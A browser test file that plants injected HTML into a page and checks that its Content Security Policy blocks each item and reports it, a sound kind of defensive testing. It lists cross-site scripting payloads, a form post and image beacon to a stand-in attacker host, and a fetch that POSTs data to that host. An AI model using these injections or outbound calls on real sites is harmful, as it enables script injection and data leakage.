import { expect, test } from './support/test.ts';

const FOREIGN = 'https://malo.example.com';

/** HTML that an attacker may inject, by the directive that must block it. Marked elements are clicked. */
const PLANTED = [
  ['script-src-elem', '<script>window.planted = true</script>'],
  ['script-src-elem', '<a data-press href="javascript:void(window.planted = true)">x</a>'],
  ['script-src-elem', `<script src="${FOREIGN}/a.js"></script>`],
  ['script-src-attr', '<img src="data:," alt="" onerror="window.planted = true">'],
  ['style-src-elem', '<style>body { visibility: hidden }</style>'],
  ['style-src-attr', '<p style="visibility: hidden">x</p>'],
  ['frame-src', `<iframe src="${FOREIGN}/"></iframe>`],
  ['object-src', `<object data="${FOREIGN}/a.pdf"></object>`],
  ['form-action', `<form data-press method="post" action="${FOREIGN}/"><input name="a" value="1"></form>`],
  ['img-src', `<img src="${FOREIGN}/a.gif?visita" alt="">`],
  ['base-uri', `<base href="${FOREIGN}/">`],
] as const;

// The browser reports each violation: a directive without a report was not exercised.
test('the policy blocks every kind of injected HTML', async ({ page, problems, baseURL }) => {
  problems.allow(/content security policy|refused to|requires 'Trusted|trusted ?types/i);
  const requested: string[] = [];
  await page.context().route(`${FOREIGN}/**`, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const markup = PLANTED.map(([, planted]) => planted).join('');
    return route.fulfill({
      response,
      body: (await response.text()).replace('</main>', () => `${markup}</main>`),
    });
  });
  await page.goto('/');
  for (const pressed of await page.locator('[data-press]').all()) {
    // `submit()` fires no event: the page's script would hold a form that is not live.
    await pressed.evaluate((one) =>
      one instanceof HTMLFormElement ? one.submit() : (one as HTMLElement).click(),
    );
  }
  const tried = page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="data:,">'));
  await expect(tried).rejects.toThrow('TypeError');
  // In a later task: code evaluated by the driver itself may bypass the policy.
  const later = () =>
    new Promise((done) => setTimeout(done)).then(() => new Function('window.planted = true')());
  await expect(page.evaluate(later)).rejects.toThrow('EvalError');
  const send = (url: string) => fetch(url, { method: 'POST', body: 'palabras' }).then(() => 'sent');
  await expect(page.evaluate(send, `${FOREIGN}/`)).rejects.toThrow('Failed to fetch');

  const wanted = [...PLANTED.map(([directive]) => directive), 'require-trusted-types-for', 'connect-src'];
  for (const directive of wanted) {
    const refused = () => problems.found.filter((one) => one.includes(`violation: ${directive} `)).length;
    const times = wanted.filter((one) => one === directive).length;
    await expect.poll(refused, { message: directive }).toBeGreaterThanOrEqual(times);
  }
  const harm = await page.evaluate(() => ({
    ran: 'planted' in window,
    base: document.baseURI,
    styled: getComputedStyle(document.querySelector('main > p') ?? document.body).visibility,
  }));
  expect(harm).toEqual({ ran: false, base: `${baseURL}/`, styled: 'visible' });
  expect(requested).toEqual([]);
});
